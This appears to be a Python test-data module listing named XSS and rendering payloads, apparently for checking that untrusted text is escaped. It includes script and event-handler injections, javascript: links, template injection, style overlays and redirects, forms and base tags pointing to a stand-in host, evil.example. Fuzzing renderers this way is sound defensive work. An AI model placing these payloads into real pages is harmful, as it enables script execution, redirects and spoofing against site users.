"""Texts that try to run a script, or to hide or change what stands beside them."""

from __future__ import annotations

_RUN = "window.pwned=1"
_OUT = "(window.top||window).pwned=1"

PAYLOADS: tuple[tuple[str, str], ...] = (
    # Scripts
    ("script", f"<script>{_RUN}</script>"),
    ("script-upper", f"<SCRIPT>{_RUN}</SCRIPT>"),
    ("script-nested", f"<scr<script>ipt>{_RUN}</scr</script>ipt>"),
    ("script-unclosed", f"<script>{_RUN}"),
    ("script-slash", f"<script/x>{_RUN}</script>"),
    ("script-svg", f"<svg><script>{_RUN}</script></svg>"),
    ("script-data", f"<script src='data:text/javascript,{_RUN}'></script>"),
    ("script-closes-another", f"</script><script>{_RUN}</script>"),
    ("script-in-style", f"<style><!--</style><script>{_RUN}</script>-->"),
    # Event handlers
    ("img-onerror", f"<img src=x onerror={_RUN}>"),
    ("img-onerror-quoted", f'<img src="x" onerror="{_RUN}">'),
    ("img-breaks-out", f"\"><img src=x onerror='{_RUN}'>"),
    ("img-no-space", f"<img/src=x/onerror={_RUN}>"),
    ("svg-onload", f"<svg onload={_RUN}>"),
    ("details-ontoggle", f"<details open ontoggle={_RUN}>x</details>"),
    ("body-onpageshow", f"<body onpageshow={_RUN}>"),
    ("input-onfocus", f"<input autofocus onfocus={_RUN}>"),
    ("marquee-onstart", f"<marquee onstart={_RUN}>x</marquee>"),
    ("video-onerror", f"<video><source onerror={_RUN}></video>"),
    ("audio-onerror", f"<audio src=x onerror={_RUN}>"),
    ("animate-onbegin", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>"),
    ("div-onmouseover", f"<div style='position:fixed;inset:0' onmouseover={_RUN}>x</div>"),
    ("attribute-quote", f"' onmouseover='{_RUN}' x='"),
    ("attribute-backtick", f"` onmouseover=`{_RUN}`"),
    # Other documents
    ("iframe-srcdoc", f"<iframe srcdoc='<script>parent.pwned=1;{_OUT}</script>'></iframe>"),
    ("iframe-javascript", f"<iframe src=javascript:{_OUT}></iframe>"),
    ("object-data", f"<object data='data:text/html,<script>{_OUT}</script>'></object>"),
    ("embed", f"<embed src='data:image/svg+xml,<svg onload={_OUT}>'>"),
    ("link-stylesheet", "<link rel=stylesheet href=http://evil.example/x.css>"),
    ("img-elsewhere", "<img src=http://evil.example/x.png>"),
    # javascript: links
    ("a-javascript", f"<a href=javascript:{_RUN}>click</a>"),
    ("a-javascript-entity", f"<a href='&#106;avascript:{_RUN}'>click</a>"),
    ("a-javascript-tab", f"<a href='java\tscript:{_RUN}'>click</a>"),
    ("markdown-javascript", f"[click](javascript:{_RUN})"),
    ("markdown-image", f"![x](x'onerror='{_RUN})"),
    ("markdown-reference", f"[click][1]\n\n[1]: javascript:{_RUN}"),
    ("autolink", f"<javascript:{_RUN}>"),
    # Style
    ("style-hides-all", "<style>*{display:none!important}</style>"),
    ("style-import", "<style>@import 'http://evil.example/x.css';</style>"),
    ("style-expression", f"<div style='width:expression({_RUN})'>x</div>"),
    ("style-covers", "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>x</div>"),
    ("style-white", "<span style='color:#fff;font-size:0'>hidden words</span>"),
    ("class-of-theirs", "<div class='button--submit'>x</div>"),
    # What swallows the rest
    ("plaintext", "<plaintext>rest"),
    ("textarea-closed", f"</textarea><script>{_RUN}</script>"),
    ("title-closed", f"</title><script>{_RUN}</script>"),
    ("comment", "<!-- hidden"),
    ("comment-closed", "--> shown <!--"),
    ("cdata", f"<![CDATA[<script>{_RUN}</script>]]>"),
    ("noscript", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>"),
    ("template", f"<template><script>{_RUN}</script></template>"),
    ("select", "<select><option>hidden"),
    ("closes-the-card", "</div></div></div></body></html>"),
    (
        "math-mutation",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></table></mtext></math>",
    ),
    # The page itself
    ("base", "<base href=http://evil.example/>"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=http://evil.example/'>"),
    ("form", "<form action=http://evil.example/><button>Submit</button></form>"),
    # Templates and substitutions
    ("vue", "{{constructor.constructor('window.pwned=1')()}}"),
    ("handlebars", "{{{this}}} {{#each this}}x{{/each}}"),
    ("dollar-and", "$& $` $' $1 $$"),
    ("dollar-braces", "${window.pwned=1}"),
    ("placeholder", "#RECORD_OBJECT# #TEMPLATE#"),
    # Markdown that changes what stands beside it
    ("markdown-fence", "```\ncode\n~~~"),
    ("markdown-heading", "# heading\n==========\n----------"),
    ("markdown-table", "| a | b |\n|---|---|\n| c | d |"),
    ("markdown-emphasis", "**bold** _it_ ~~gone~~ \\*not\\*"),
    ("markdown-html-comment", "[//]: # (hidden)\n[x]: y 'hidden'"),
    ("blank-lines", f"before\n\n\n<img src=x onerror={_RUN}>"),
    # Entities
    ("entity-literal", "&lt;script&gt; &amp;lt; &nbsp; &copy"),
    ("entity-hex", "&#x3C;script&#x3E;window.pwned=1&#x3C;/script&#x3E;"),
    ("less-than", "a<b and b>a, 5<6 inch, x<!y"),
    # Characters
    ("controls", "bell\x07 escape\x1b[31m backspace\x08 delete\x7f next\x85"),
    ("carriage-return", "one\r\ntwo\rthree"),
    ("right-to-left", "abc\u202egnp.exe\u202c \u2066x\u2069"),
    ("zero-width", "ze\u200bro wi\u200ddth\ufeff"),
    ("long-word", "x" * 5000),
    ("family", "👩‍👩‍👧‍👦 🏳️‍🌈 🙂"),
    ("combining", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L e\u0301clair"),
    ("cjk", "铁锅 ひらがな 한국어 𠮷野家"),
    ("arabic", "مقلاة حمراء 20 سم"),
)
"""Name and text."""
